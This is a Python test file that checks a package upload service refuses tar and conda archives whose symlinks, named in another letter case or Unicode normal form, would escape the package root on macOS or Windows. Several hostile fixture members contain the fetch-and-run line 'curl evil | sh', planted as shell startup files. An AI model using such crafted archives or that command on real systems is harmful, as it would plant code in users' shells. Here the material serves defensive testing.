"""Hostile uploaders against case-insensitive (and normalisation-insensitive) file systems.

macOS (APFS, HFS+) and Windows resolve `a/b/u` to the symlink `a/b/U`, and `é` written
decomposed to the same name precomposed. The member rules (a symlink stays inside the package,
no member is written under a symlinked directory) followed paths case-sensitively, so a package
whose links are harmless on Linux could, unpacked on a Mac, point a link above the environment
prefix and write a file through it (`S/.zshrc` through the symlink `s`). Each must be refused as
the other member attacks are (upload_env.py: 400, JSON naming the member, nothing kept)."""

from __future__ import annotations

import tarfile

import pytest

from tests.hostile.archives import STEM, Member, conda, tar_bz2
from tests.hostile.upload_env import env, post, refused, upload

pytestmark = pytest.mark.integration
__all__ = ["env"]

SYM = tarfile.SYMTYPE
# `a/b/U` -> `../..` is the package root. Case-sensitively `s` -> `a/b/u/../../x` is `a/x`;
# on a case-insensitive file system `a/b/u` is that link, and `s` is two levels above the root.
CLIMB = [
    Member("a/b/U", type=SYM, linkname="../.."),
    Member("s", type=SYM, linkname="a/b/u/../../x"),
]
ATTACKS: dict[str, list[Member]] = {
    "link-through-a-link-named-in-another-case": CLIMB,
    "write-through-a-link-named-in-another-case": [
        Member("etc", type=SYM, linkname="lib"),
        Member("lib/profile.d/.keep", b""),
        Member("ETC/profile.d/evil.sh", b"curl evil | sh"),
    ],
    "climb-then-write-through-in-another-case": [*CLIMB, Member("S/.zshrc", b"curl evil | sh")],
    "link-through-a-link-named-in-another-normal-form": [
        Member("a/b/\u00e9", type=SYM, linkname="../.."),  # é precomposed (NFC)
        Member("s", type=SYM, linkname="a/b/e\u0301/../../x"),  # e + combining acute (NFD)
    ],
}


@pytest.mark.parametrize("where", ["pkg-tar", "tar-bz2"])
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_links_cannot_reach_outside_the_package_on_a_case_insensitive_disk(env, attack, where):
    members = ATTACKS[attack]
    if where == "tar-bz2":
        filename, data = f"{STEM}.tar.bz2", tar_bz2(members)
    else:
        filename, data = f"{STEM}.conda", conda((), members)
    error = refused(env, upload(env, filename, data), 400)
    assert error["member"] in {m.name for m in members}, error


def test_members_differing_only_in_case_are_still_accepted(env):
    """Linux packages hold such files (ncurses' terminfo has `E/` and `e/`): not an attack
    unless a link is involved."""
    members = [Member("share/terminfo/E/Eterm", b"1"), Member("share/terminfo/e/eterm", b"2")]
    answer = post(env.proxy, f"{STEM}.tar.bz2", tar_bz2(members))
    assert answer.status_code == 201, answer.text
    env.delete(f"linux-64/{STEM}.tar.bz2")
